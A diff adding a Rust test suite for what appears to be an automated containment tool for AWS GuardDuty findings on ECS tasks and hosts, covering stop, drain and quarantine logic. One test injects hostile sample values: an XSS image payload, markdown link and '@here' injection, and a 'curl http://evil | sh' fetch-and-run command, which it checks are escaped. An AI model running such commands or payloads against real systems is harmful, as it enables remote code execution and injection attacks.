@@ -1,0 +1,430 @@
+use super::*;
+use shared::aws::ecs::Task;
+use shared::config::Env;
+use shared::events::Envelope;
+
+use crate::parse::{intent, Intent};
+
+fn config(extra: &[(&'static str, &'static str)]) -> Config {
+    let mut pairs = vec![("NOTIFY_TOPIC_ARN", "arn:aws:sns:us-east-1:123456789012:t")];
+    pairs.extend_from_slice(extra);
+    Config::from_env(&Env::from_pairs(pairs)).unwrap()
+}
+
+fn threat_from(name: &str, edit: impl FnOnce(&mut serde_json::Value)) -> Threat {
+    let path = format!("{}/../../tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
+    let mut e = Envelope::parse_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+    edit(&mut e.detail);
+    match intent(&e).unwrap() {
+        Intent::Respond(t) => *t,
+        other => panic!("{other:?}"),
+    }
+}
+
+/// The EC2 reverse shell finding (High, 8.0) in cluster prod, service web.
+fn high() -> Threat {
+    threat_from("guardduty-reverse-shell-ec2.json", |_| {})
+}
+
+fn with_severity(severity: f64) -> Threat {
+    threat_from("guardduty-reverse-shell-ec2.json", |d| {
+        d["severity"] = severity.into()
+    })
+}
+
+const TASK: &str = "arn:aws:ecs:us-east-1:123456789012:task/prod/0f9e8d7c6b5a49382716051423324150";
+
+fn evidence(arn: &str, last: &str, desired: &str) -> TaskEvidence {
+    TaskEvidence {
+        task: Task {
+            arn: arn.into(),
+            last_status: last.into(),
+            desired_status: desired.into(),
+            group: "service:web".into(),
+            started_by: Some("ecs-svc/1".into()),
+            started_at: None,
+            task_definition_arn: "arn:aws:ecs:us-east-1:123456789012:task-definition/web:42".into(),
+            launch_type: Some("EC2".into()),
+            container_instance_arn: Some("arn:ci/1".into()),
+        },
+        stopped_reason: None,
+        stopped_at: None,
+        availability_zone: None,
+        capacity_provider: None,
+        platform_version: None,
+        containers: vec![],
+        attachments: vec![],
+        tags: Default::default(),
+    }
+}
+
+fn stopped_by_us(arn: &str, minutes_ago: i64, now: DateTime<Utc>) -> TaskEvidence {
+    let mut e = evidence(arn, "STOPPED", "STOPPED");
+    e.stopped_reason = Some(format!("{STOP_REASON_PREFIX} GuardDuty finding x y"));
+    e.stopped_at = Some(now - Duration::minutes(minutes_ago));
+    e
+}
+
+fn host(status: &str, group: Option<(&str, &str)>) -> Host {
+    Host {
+        instance_id: "i-0abc123def4567890".into(),
+        container_instance: ContainerInstance {
+            arn: "arn:ci/1".into(),
+            ec2_instance_id: "i-0abc123def4567890".into(),
+            status: status.into(),
+            agent_connected: true,
+            running_tasks_count: 3,
+            ami_id: None,
+        },
+        group: group.map(|(tag, state)| HostGroup {
+            name: "prod-asg".into(),
+            cluster_tag: Some(tag.into()),
+            lifecycle_state: Some(state.into()),
+        }),
+    }
+}
+
+/// A running task of service web (3 running) on an ACTIVE host in opted-in group prod-asg.
+fn running() -> Observed {
+    Observed {
+        task: Some(evidence(TASK, "RUNNING", "RUNNING")),
+        service_running: Some(3),
+        service_stopped: vec![],
+        host: Some(host("ACTIVE", Some(("prod", "InService")))),
+    }
+}
+
+fn actions(plan: &Plan) -> Vec<&'static str> {
+    plan.steps
+        .iter()
+        .filter(|s| s.changes_something())
+        .map(Step::action)
+        .collect()
+}
+
+fn notes(plan: &Plan) -> Vec<(&'static str, Outcome)> {
+    plan.steps
+        .iter()
+        .filter_map(|s| match s {
+            Step::Note {
+                action, outcome, ..
+            } => Some((*action, *outcome)),
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+fn a_high_finding_stops_the_task_then_drains_tags_protects_and_detaches_its_host() {
+    let c = config(&[]);
+    assert!(screen(&high(), true, &c).is_none());
+    let plan = respond(&high(), &running(), &c, Utc::now());
+    assert_eq!(
+        actions(&plan),
+        [
+            "stop-task",
+            "drain-host",
+            "tag-host",
+            "protect-host",
+            "detach-host"
+        ]
+    );
+    assert_eq!(plan.action, "contain");
+    assert_eq!(plan.notice.severity, Severity::High);
+    assert!(plan
+        .notice
+        .title
+        .starts_with("High Execution:Runtime/ReverseShell in prod/web"));
+    let Step::TagInstance { tags, .. } = &plan.steps[2] else {
+        panic!()
+    };
+    assert_eq!(
+        tags[0],
+        (
+            QUARANTINE_TAG.to_string(),
+            "c6c7e4a1f2b3d4e5a6b7c8d9e0f1a2b3".to_string()
+        )
+    );
+}
+
+#[test]
+fn the_stop_reason_starts_with_our_prefix_and_names_the_finding() {
+    let plan = respond(&high(), &running(), &config(&[]), Utc::now());
+    let Step::StopTask {
+        reason, cluster, ..
+    } = &plan.steps[0]
+    else {
+        panic!()
+    };
+    assert!(reason.starts_with(STOP_REASON_PREFIX));
+    assert!(reason.contains("c6c7e4a1f2b3d4e5a6b7c8d9e0f1a2b3"));
+    assert!(reason.contains("Execution:Runtime/ReverseShell"));
+    assert!(reason.len() <= 255);
+    assert_eq!(cluster, "arn:aws:ecs:us-east-1:123456789012:cluster/prod");
+}
+
+#[test]
+fn a_fargate_task_is_stopped_and_no_host_is_touched() {
+    let t = threat_from("guardduty-bitcoin-tool-fargate.json", |_| {});
+    let mut seen = running();
+    let e = seen.task.as_mut().unwrap();
+    e.task.launch_type = Some("FARGATE".into());
+    e.task.container_instance_arn = None;
+    seen.host = None;
+    let plan = respond(&t, &seen, &config(&[]), Utc::now());
+    assert_eq!(actions(&plan), ["stop-task"]);
+    assert_eq!(notes(&plan), [("quarantine-host", Outcome::Skipped)]);
+}
+
+#[test]
+fn quarantine_host_false_leaves_the_host_alone() {
+    let plan = respond(
+        &high(),
+        &running(),
+        &config(&[("QUARANTINE_HOST", "false")]),
+        Utc::now(),
+    );
+    assert_eq!(actions(&plan), ["stop-task"]);
+}
+
+#[test]
+fn findings_below_min_severity_are_only_notified() {
+    let t = threat_from("guardduty-docker-socket-medium.json", |_| {});
+    let plan = screen(&t, true, &config(&[])).unwrap();
+    assert!(plan.steps.is_empty());
+    assert_eq!(plan.outcome, Outcome::Skipped);
+    assert_eq!(plan.notice.severity, Severity::Warning);
+    assert!(plan.notice.title.contains("below MIN_SEVERITY"));
+    assert!(screen(&t, true, &config(&[("MIN_SEVERITY", "4")])).is_none());
+}
+
+#[test]
+fn sample_findings_are_not_acted_on_unless_drills_are_enabled() {
+    let t = threat_from("guardduty-sample-finding.json", |d| {
+        d["severity"] = 8.into()
+    });
+    let plan = screen(&t, true, &config(&[])).unwrap();
+    assert!(plan.notice.title.contains("sample finding"));
+    assert!(plan.steps.is_empty());
+    assert!(screen(&t, true, &config(&[("ACT_ON_SAMPLE_FINDINGS", "true")])).is_none());
+}
+
+#[test]
+fn an_unmanaged_cluster_is_only_notified() {
+    let plan = screen(&high(), false, &config(&[])).unwrap();
+    assert!(plan.steps.is_empty());
+    assert_eq!(plan.notice.severity, Severity::Info);
+    assert!(plan.notice.title.contains("not opted in"));
+}
+
+#[test]
+fn type_lists_match_prefixes_and_deny_wins() {
+    let c = config(&[
+        ("FINDING_TYPES_ALLOW", "Execution:Runtime/"),
+        ("FINDING_TYPES_DENY", "Execution:Runtime/ReverseShell"),
+    ]);
+    assert!(screen(&high(), true, &c)
+        .unwrap()
+        .notice
+        .title
+        .contains("type denied"));
+    let c = config(&[("FINDING_TYPES_ALLOW", "Execution:Runtime/")]);
+    assert!(screen(&high(), true, &c).is_none());
+    let c = config(&[("FINDING_TYPES_ALLOW", "CryptoCurrency:")]);
+    assert!(screen(&high(), true, &c)
+        .unwrap()
+        .notice
+        .title
+        .contains("not allowed"));
+}
+
+#[test]
+fn a_finding_without_a_task_is_only_notified() {
+    let t = threat_from("guardduty-reverse-shell-ec2.json", |d| {
+        d["resource"]["ecsClusterDetails"]["taskDetails"] = serde_json::json!({});
+    });
+    assert!(screen(&t, true, &config(&[])).unwrap().steps.is_empty());
+}
+
+#[test]
+fn a_duplicate_finding_for_a_stopped_task_on_a_quarantined_host_is_already_contained() {
+    let mut seen = running();
+    seen.task = Some(stopped_by_us(TASK, 2, Utc::now()));
+    seen.host = Some(host("DRAINING", None));
+    let plan = respond(&high(), &seen, &config(&[]), Utc::now());
+    assert!(!plan.changes_something());
+    assert_eq!(plan.outcome, Outcome::AlreadyDone);
+    assert_eq!(plan.notice.severity, Severity::Info);
+    assert!(plan.notice.title.contains("already contained"));
+}
+
+#[test]
+fn a_retry_after_a_partial_quarantine_finishes_the_host_without_stopping_again() {
+    let mut seen = running();
+    seen.task = Some(stopped_by_us(TASK, 1, Utc::now()));
+    seen.host = Some(host("DRAINING", Some(("prod", "InService"))));
+    let plan = respond(&high(), &seen, &config(&[]), Utc::now());
+    assert_eq!(actions(&plan), ["tag-host", "protect-host", "detach-host"]);
+    assert_eq!(
+        notes(&plan),
+        [
+            ("stop-task", Outcome::AlreadyDone),
+            ("drain-host", Outcome::AlreadyDone)
+        ]
+    );
+}
+
+#[test]
+fn a_task_being_stopped_counts_as_stopped() {
+    let mut seen = running();
+    seen.task = Some(evidence(TASK, "RUNNING", "STOPPED"));
+    seen.host = Some(host("DRAINING", None));
+    let plan = respond(&high(), &seen, &config(&[]), Utc::now());
+    assert_eq!(plan.outcome, Outcome::AlreadyDone);
+}
+
+#[test]
+fn a_task_ecs_does_not_know_is_reported_and_not_stopped() {
+    let plan = respond(&high(), &Observed::default(), &config(&[]), Utc::now());
+    assert!(plan.steps.is_empty());
+    assert!(plan.notice.title.contains("task not found"));
+}
+
+#[test]
+fn excluded_services_and_families_are_held_for_a_person() {
+    let plan = respond(
+        &high(),
+        &running(),
+        &config(&[("ACTION_EXCLUDE_SERVICES", "other, web")]),
+        Utc::now(),
+    );
+    assert!(plan.steps.is_empty());
+    assert_eq!(plan.notice.severity, Severity::High);
+    assert!(plan.notice.title.contains("service excluded"));
+    let plan = respond(
+        &high(),
+        &running(),
+        &config(&[("ACTION_EXCLUDE_TASK_FAMILIES", "web")]),
+        Utc::now(),
+    );
+    assert!(plan.notice.title.contains("family excluded"));
+}
+
+#[test]
+fn the_breaker_trips_after_max_stops_in_the_window_and_raises_a_critical() {
+    let now = Utc::now();
+    let mut seen = running();
+    seen.service_stopped = vec![
+        stopped_by_us("t1", 5, now),
+        stopped_by_us("t2", 10, now),
+        stopped_by_us("t3", 29, now),
+    ];
+    let plan = respond(&high(), &seen, &config(&[]), now);
+    assert!(plan.steps.is_empty());
+    assert_eq!(plan.notice.severity, Severity::Critical);
+    assert!(plan.notice.title.contains("crash-loop breaker"));
+    assert!(plan
+        .notice
+        .next_steps
+        .iter()
+        .any(|s| s.contains("scale service web to zero")));
+    assert_eq!(plan.notice.details["recent_stops"], 3);
+}
+
+#[test]
+fn only_our_own_stops_within_the_window_count_towards_the_breaker() {
+    let now = Utc::now();
+    let mut scaled_in = evidence("t4", "STOPPED", "STOPPED");
+    scaled_in.stopped_reason = Some("Scaling activity initiated by deployment".into());
+    let stopped = vec![
+        stopped_by_us("t1", 5, now),
+        stopped_by_us("t2", 31, now),
+        stopped_by_us(TASK, 1, now),
+        scaled_in,
+    ];
+    assert_eq!(recent_stops(&stopped, TASK, now, 30), 1);
+    let mut seen = running();
+    seen.service_stopped = stopped;
+    assert_eq!(
+        actions(&respond(&high(), &seen, &config(&[]), now))[0],
+        "stop-task"
+    );
+}
+
+#[test]
+fn the_health_floor_holds_high_findings_for_a_person_but_critical_ones_stop_anyway() {
+    let c = config(&[("MIN_HEALTHY_TASKS", "3")]);
+    let plan = respond(&high(), &running(), &c, Utc::now());
+    assert!(plan.steps.is_empty());
+    assert!(plan.notice.title.contains("health floor"));
+    assert!(plan
+        .notice
+        .description
+        .contains("below MIN_HEALTHY_TASKS (3)"));
+    let plan = respond(&with_severity(9.2), &running(), &c, Utc::now());
+    assert_eq!(actions(&plan)[0], "stop-task");
+    assert_eq!(plan.notice.severity, Severity::Critical);
+    assert!(plan
+        .notice
+        .description
+        .contains("Critical, so the task is stopped anyway"));
+    let plan = respond(
+        &high(),
+        &running(),
+        &config(&[("MIN_HEALTHY_TASKS", "2")]),
+        Utc::now(),
+    );
+    assert_eq!(
+        actions(&plan)[0],
+        "stop-task",
+        "3 running, 2 left: at the floor"
+    );
+}
+
+#[test]
+fn a_group_not_opted_in_for_the_cluster_is_not_detached() {
+    let mut seen = running();
+    seen.host = Some(host("ACTIVE", Some(("other-cluster", "InService"))));
+    let plan = respond(&high(), &seen, &config(&[]), Utc::now());
+    assert_eq!(actions(&plan), ["stop-task", "drain-host", "tag-host"]);
+    assert_eq!(notes(&plan), [("detach-host", Outcome::Warning)]);
+}
+
+#[test]
+fn an_instance_already_terminating_is_not_detached_and_the_notice_says_why() {
+    let mut seen = running();
+    seen.host = Some(host("ACTIVE", Some(("prod", "Terminating:Wait"))));
+    let plan = respond(&high(), &seen, &config(&[]), Utc::now());
+    assert_eq!(actions(&plan), ["stop-task", "drain-host", "tag-host"]);
+    let Some(Step::Note { why, .. }) = plan.steps.last() else {
+        panic!()
+    };
+    assert!(why.contains("Terminating:Wait"));
+}
+
+#[test]
+fn attacker_controlled_runtime_fields_come_out_escaped() {
+    let t = threat_from("guardduty-reverse-shell-ec2.json", |d| {
+        d["service"]["runtimeDetails"]["process"]["name"] =
+            "x`](http://evil)<img src=x onerror=alert(1)>\n@here *pwn*".into();
+        d["service"]["runtimeDetails"]["context"]["commandLineExample"] =
+            "curl http://evil | sh # [click](http://evil)".into();
+    });
+    let plan = respond(&t, &running(), &config(&[]), Utc::now());
+    let record = serde_json::to_string(&plan.notice.details).unwrap();
+    for raw in ["<img", "](", "`", "@here", "*pwn", "| sh", "[click"] {
+        assert!(
+            all_escaped(&plan.notice.description, raw),
+            "{raw} in description"
+        );
+        assert!(all_escaped(&record, raw), "{raw} in the notice record");
+    }
+    assert!(plan.notice.description.contains(r"\<img"));
+    assert!(!plan.notice.description.contains("\n@"));
+}
+
+/// Every occurrence of `raw` in `text` starts with a backslash-escaped character.
+fn all_escaped(text: &str, raw: &str) -> bool {
+    text.match_indices(raw)
+        .all(|(at, _)| text[..at].ends_with('\\'))
+}
